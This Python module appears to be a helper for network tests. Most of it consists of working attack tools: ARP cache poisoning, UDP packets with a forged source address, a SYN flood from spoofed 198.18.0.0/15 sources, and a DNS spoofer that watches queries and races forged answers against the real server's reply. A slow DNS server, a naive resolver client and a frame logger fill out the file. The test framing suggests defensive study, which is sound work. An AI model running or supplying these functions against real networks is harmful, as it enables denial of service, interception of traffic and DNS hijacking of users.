"""Programs that send what honest hosts do not send, and one that says what arrives at a device."""

import json
import random
import signal
import socket
import struct
import sys
import time

from peer import checksum

ETH_ALL, IP, ARP = 3, 0x0800, 0x0806
TCP, UDP = socket.IPPROTO_TCP, socket.IPPROTO_UDP
SYN, ACK = 0x02, 0x10
# Kinds of ARP, and of frames in a packet socket.
REQUEST, REPLY, OUTGOING = 1, 2, 4


def mac_bytes(text):
    return bytes.fromhex(text.replace(":", ""))


def own_mac(device):
    with open(f"/sys/class/net/{device}/address") as file:
        return mac_bytes(file.read().strip())


def ip4(source, target, proto, payload):
    """An IPv4 packet, of whichever sender."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(source, target, sport, dport, data):
    """A datagram in IPv4, without a checksum of UDP."""
    return ip4(source, target, UDP, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data)


def segment(source, target, sport, dport, flags):
    """A TCP segment in IPv4. A SYN has MSS, SACK and window scale."""
    options = b"\x02\x04\x05\xb4\x04\x02\x01\x03\x03\x07\x01\x01" if flags == SYN else b""
    acked = random.getrandbits(32) if flags & ACK else 0
    head = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), acked,
                       20 + len(options) << 2, flags, 64240, 0, 0) + options
    pseudo = struct.pack("!4s4sHH", socket.inet_aton(source), socket.inet_aton(target), TCP,
                         len(head))
    total = checksum(pseudo + head)
    return ip4(source, target, TCP, head[:16] + struct.pack("!H", total) + head[18:])


def raw():
    """A socket for packets with their IPv4 headers."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def frames(device):
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    # SO_RCVBUFFORCE, so that a flood fits.
    made.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)
    made.bind((device, ETH_ALL))
    return made


def claim(device, address, target, asked):
    """Says to a host that an address is here, in an answer without question and in a question."""
    own = own_mac(device)
    with frames(device) as made:
        for code in (REPLY, REQUEST):
            body = struct.pack("!HHBBH6s4s6s4s", 1, IP, 6, 4, code, own, socket.inet_aton(address),
                               mac_bytes(target), socket.inet_aton(asked))
            made.send(mac_bytes(target) + own + struct.pack("!H", ARP) + body)


def say(device, target, source, address):
    """Sends a datagram to port 7 from another one's address."""
    with frames(device) as made:
        packet = udp(source, address, 7000, 7, b"it is me")
        made.send(mac_bytes(target) + own_mac(device) + struct.pack("!H", IP) + packet)


def watch(device):
    """Prints a line for each frame that arrives: its sender, and what it holds. Until SIGTERM."""
    with frames(device) as made:
        ended = []
        signal.signal(signal.SIGTERM, lambda *_: (ended.append(True), made.setblocking(False)))
        made.settimeout(0.1)
        print("ready", flush=True)
        while True:
            try:
                frame, whence = made.recvfrom(65536)
                if whence[2] != OUTGOING:
                    print(described(frame), flush=True)
            except OSError:
                if ended:
                    return


def described(frame):
    sender, kind = frame[6:12].hex(":"), int.from_bytes(frame[12:14], "big")
    if kind == ARP:
        return f"{sender} arp {socket.inet_ntoa(frame[28:32])}"
    if kind != IP:
        return f"{sender} {kind:04x}"
    rest = frame[14 + (frame[14] & 15) * 4:]
    source, target = (socket.inet_ntoa(frame[at:at + 4]) for at in (26, 30))
    names = {1: "icmp", TCP: "tcp", UDP: "udp"}
    more = ""
    if frame[23] in (TCP, UDP):
        more = f" {int.from_bytes(rest[:2], 'big')} {int.from_bytes(rest[2:4], 'big')}"
    if frame[23] == TCP:
        more += f" flags {rest[13] & 0x17:02x}"
    return f"{sender} {names.get(frame[23], frame[23])} {source} {target}{more}"


def knock(own, address, *ports):
    """Sends a SYN to each port, in this order, and waits for no answer."""
    for port in ports:
        with socket.socket() as made:
            made.bind((own, 0))
            made.setblocking(False)
            made.connect_ex((address, int(port)))


def flood(address, port, count, flags):
    """Segments of hosts that never answer, of 198.18.0.0/15, in bursts that a queue takes."""
    with raw() as made:
        for number in range(int(count)):
            source = f"198.18.{number % 250}.{number // 250 + 1}"
            sport = random.randrange(1024, 65536)
            made.sendto(segment(source, address, sport, int(port), int(flags, 16)), (address, 0))
            if number % 50 == 49:
                time.sleep(0.005)


def name_bytes(name):
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"


def question(number, name):
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + name_bytes(name) + b"\0\1\0\1"


def answer(number, name, address):
    """An answer with one address."""
    return (struct.pack("!HHHHHH", number, 0x8180, 1, 1, 0, 0) + name_bytes(name) + b"\0\1\0\1"
            + struct.pack("!HHHIH4s", 0xC00C, 1, 1, 60, 4, socket.inet_aton(address)))


def resolve(port, address, seconds):
    """A server that takes its time to answer each question with one address, until killed."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.bind(("127.0.0.1", int(port)))
        print("ready", flush=True)
        while True:
            data, peer = made.recvfrom(2048)
            time.sleep(float(seconds))
            made.sendto(answer(int.from_bytes(data[:2], "big"), named(data), address), peer)


def ask(server, *names):
    """A client that believes everything: prints the addresses in all datagrams that come, for each
    question those until half a second after its first one."""
    for number, name in enumerate(names):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.bind(("", 0))
            made.sendto(question(0x1000 + number, name), (server, 53))
            made.settimeout(5)
            found, end = [], None
            try:
                while end is None or end > time.monotonic():
                    data = made.recv(2048)
                    end = end or time.monotonic() + 0.5
                    found.append(socket.inet_ntoa(data[-4:]))
                    made.settimeout(max(end - time.monotonic(), 0.01))
            except TimeoutError:
                pass
            print(json.dumps(found))


def spoof(device, server, address):
    """For each question that passes to the server, sends answers with another number, with another
    name, from another server and, behind the true answer, one that fits. Prints a line for each."""
    with frames(device) as made, raw() as out:
        print("ready", flush=True)
        asked = {}
        while True:
            frame, whence = made.recvfrom(65536)
            if frame[12:14] != b"\x08\0" or frame[23] != UDP:
                continue
            source, target = (socket.inet_ntoa(frame[at:at + 4]) for at in (26, 30))
            sport, dport = struct.unpack("!HH", frame[34:38])
            data = frame[42:]
            number = int.from_bytes(data[:2], "big")
            name = named(data)
            if target == server and dport == 53 and whence[2] != OUTGOING:
                asked[source, sport, number] = name
                for sender, *said in ((server, number ^ 1, name), (server, number, "x" + name[1:]),
                                      ("198.51.100.66", number, name)):
                    send(out, sender, source, sport, answer(*said, address))
            elif (source == server and sport == 53 and whence[2] == OUTGOING
                  and asked.pop((target, dport, number), None)):
                send(out, server, target, dport, answer(number, name, address))


def send(out, sender, target, port, data):
    out.sendto(udp(sender, target, 53, port, data), (target, 0))
    print("forged", flush=True)


def named(data):
    """The name of a message's question."""
    at, parts = 12, []
    while at < len(data) and data[at]:
        parts.append(data[at + 1:at + 1 + data[at]].decode(errors="replace"))
        at += 1 + data[at]
    return ".".join(parts)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
